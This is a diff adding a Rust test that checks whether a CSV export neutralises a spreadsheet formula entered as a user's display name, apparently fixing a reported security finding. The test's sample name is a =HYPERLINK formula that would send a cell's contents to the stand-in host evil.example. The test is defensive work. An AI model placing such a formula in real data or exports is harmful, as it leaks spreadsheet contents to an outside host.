@@ -912,7 +912,47 @@ async fn a_replayed_track_and_a_reused_photo_do_not_count(backend: Backend) {
     );
 }
 
+/// Issue 22, finding 5: a display name that is a spreadsheet formula landed in the CSV export as
+/// a formula (the XLSX was safe). Through real HTTP: the cell comes out as text.
+async fn a_formula_in_a_name_is_text_in_the_csv(backend: Backend) {
+    let app = TestApp::with_demo(backend).await;
+    let leader = app.token(LEADER).await;
+    let village = app.grid_id(VILLAGE).await;
+    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
+    let created = app
+        .post(
+            "/v1/users",
+            Some(&leader),
+            &serde_json::json!({"username": "formula", "display_name": name,
+                    "roles": [{"grid_id": village, "role": "inspector"}]}),
+        )
+        .await;
+    assert_eq!(created.status, 201, "{}", created.text);
+    let week = chrono::Utc::now().format("%G-W%V").to_string();
+    let csv = app
+        .client
+        .get(format!(
+            "{}/v1/compliance/weeks/{week}/export?format=csv",
+            app.base
+        ))
+        .bearer_auth(&leader)
+        .send()
+        .await
+        .expect("csv")
+        .text()
+        .await
+        .expect("text");
+    // The inspector's cell is "<display name>（<user name>）", quoted for its commas and quotes.
+    let quoted = format!(",\"'{}（formula）\",", name.replace('"', "\"\""));
+    assert!(csv.contains(&quoted), "{csv}");
+    assert!(
+        !csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"),
+        "{csv}"
+    );
+}
+
 both_backends!(
+    a_formula_in_a_name_is_text_in_the_csv,
     a_replayed_track_and_a_reused_photo_do_not_count,
     patrols_are_judged_as_they_sync_and_again_the_same,
     the_weekly_record_counts_patrols_against_the_duty,
